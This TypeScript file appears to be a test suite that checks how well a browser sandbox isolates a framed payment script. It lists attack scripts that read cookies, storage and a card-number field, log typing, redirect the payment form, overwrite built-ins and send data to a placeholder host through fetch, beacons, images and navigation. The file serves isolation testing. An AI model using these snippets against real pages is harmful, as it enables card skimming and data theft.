import { type Attack, type Effects, ENGINES, type Engine } from './attack.js';

const canary = ({ loot }: Effects) => loot.includes('canary');
const harmed = ({ harm }: Effects) => Boolean(harm);
const EVERYWHERE = Object.keys(ENGINES) as Engine[];

/** Replaces a function of the page by a copy that sets `touched`. */
const overwrite = (owner: string, name: string) => `
  [self, parent].forEach(function (realm) {
    take(function () {
      var owner = realm.${owner}, original = owner.${name};
      owner.${name} = function () { realm.touched = true; return original.apply(this, arguments); };
    });
  });`;

const SEND = `
  take(function () { fetch('ELSEWHERE', { mode: 'no-cors' }); });
  take(function () { navigator.sendBeacon('ELSEWHERE'); });
  take(function () { new Image().src = 'ELSEWHERE'; });
  take(function () { document.head.append(Object.assign(document.createElement('script'), { src: 'ELSEWHERE' })); });
  take(function () { document.documentElement.append(Object.assign(document.createElement('iframe'), { src: 'ELSEWHERE' })); });
  take(function () { location.href = 'ELSEWHERE'; });`;

export const attacks: readonly Attack[] = [
  {
    name: 'reads cookies',
    script: 'take(function () { return document.cookie; }); take(function () { return parent.document.cookie; });',
    gotThrough: canary,
  },
  {
    name: 'reads the storage',
    script: `[self, parent].forEach(function (realm) {
      take(function () { return realm.localStorage.getItem('secret'); });
      take(function () { return realm.sessionStorage.getItem('secret'); });
    });`,
    gotThrough: canary,
  },
  {
    name: 'reads the card form',
    script: 'take(function () { return parent.document.forms[0].elements.pan.value; });',
    gotThrough: canary,
  },
  {
    name: 'reads globals',
    script: 'take(function () { return parent.secret; }); take(function () { return opener.secret; });',
    gotThrough: canary,
  },
  {
    name: "reads the page's address",
    script: 'take(function () { return document.baseURI; });',
    gotThrough: canary,
    through: EVERYWHERE,
    because:
      'A `srcdoc` document has the base address of its page (HTML, 2.4.3). A `data:` document has not, but most ' +
      'policies forbid it. Keep secrets out of the address.',
  },
  {
    name: 'listens to typing',
    script: `take(function () {
      parent.document.addEventListener('input', function (event) { parent.stolen = event.target.value; });
    });`,
    harm: "document.forms[0].elements.pan.dispatchEvent(new Event('input', { bubbles: true })), window.stolen",
    gotThrough: harmed,
  },
  {
    name: 'turns the form to another server',
    script: "take(function () { parent.document.forms[0].action = 'ELSEWHERE'; });",
    harm: "!document.forms[0].action.endsWith('/paid')",
    gotThrough: harmed,
  },
  {
    name: 'overwrites JSON.parse',
    script: overwrite('JSON', 'parse'),
    harm: 'JSON.parse("1"), window.touched',
    gotThrough: harmed,
  },
  {
    name: 'overwrites Promise',
    script: overwrite('Promise.prototype', 'then'),
    harm: 'Promise.resolve().then(), window.touched',
    gotThrough: harmed,
  },
  {
    name: 'overwrites Array.prototype',
    script: overwrite('Array.prototype', 'map'),
    harm: '[].map(String), window.touched',
    gotThrough: harmed,
  },
  {
    name: 'answers another call',
    script: `[self, parent].forEach(function (realm) {
      take(function () {
        Object.getOwnPropertyNames(realm).filter(function (name) {
          return /^sg[0-9a-f]{16}$/.test(name) && name !== 'CALLBACK';
        }).forEach(function (name) {
          realm[name]({ reply: { response: 'Success', responsecode: '0', description: 'OK', datablock: 'forged' } });
        });
      });
    });`,
    harm: 'window.otherReply',
    gotThrough: ({ harm }) => harm === 'forged',
  },
  {
    name: 'posts messages to the page',
    script: "take(function () { top.postMessage('forged', '*'); });",
    gotThrough: ({ heard }) => heard.includes('forged'),
    through: EVERYWHERE,
    because:
      'Every frame may post to its page (HTML, 9.3.3). A listener of the page must check `event.origin`, which is ' +
      '`null` here.',
  },
  {
    name: 'opens a window',
    script: "take(function () { open('ELSEWHERE'); }); take(function () { parent.open('ELSEWHERE'); });",
    gotThrough: ({ popups }) => popups > 0,
  },
  {
    name: 'shows a dialog',
    script: 'take(function () { alert(1); }); take(function () { parent.alert(1); });',
    gotThrough: ({ dialogs }) => dialogs > 0,
  },
  {
    name: 'starts a download',
    script: `take(function () {
      var link = document.createElement('a');
      link.href = URL.createObjectURL(new Blob(['x']));
      link.download = 'x.txt';
      document.documentElement.append(link);
      link.click();
    });`,
    gotThrough: ({ downloads }) => downloads > 0,
    unseen: ['firefox'],
  },
  {
    name: 'navigates the page',
    script: "take(function () { top.location.href = 'ELSEWHERE'; });",
    gotThrough: ({ left }) => left,
  },
  {
    name: 'goes back in the history',
    script: 'take(function () { history.back(); });',
    goesBack: true,
    silent: true,
    gotThrough: ({ left }) => left,
    through: ['firefox'],
    because: 'In Firefox a frame that may not navigate its page may still go back in their shared history.',
  },
  {
    name: 'loops for a second',
    script: 'for (var end = Date.now() + 1000; Date.now() < end; ) {}',
    timed: true,
    gotThrough: ({ gap }) => gap > 700,
    through: ['chromium-one-process', 'firefox'],
    because:
      'A frame runs in the thread of its page unless the browser gives it a separate process: Chromium on ' +
      'desktop does, Firefox and Safari do not.',
  },
  {
    name: 'sends its data to another server',
    script: SEND,
    silent: true,
    gotThrough: ({ elsewhere }) => elsewhere > 0,
    through: EVERYWHERE,
    because:
      'A frame may load and may navigate itself. It knows the call and the address of the page. It inherits the ' +
      'policy of the page, and that policy stops it, as the next row shows.',
  },
  {
    name: 'the same, under a policy of the page',
    script: SEND,
    silent: true,
    policy: "default-src 'none'; script-src 'self' 'nonce-page' GATEWAY 'HASH'",
    gotThrough: ({ elsewhere }) => elsewhere > 0,
  },
];
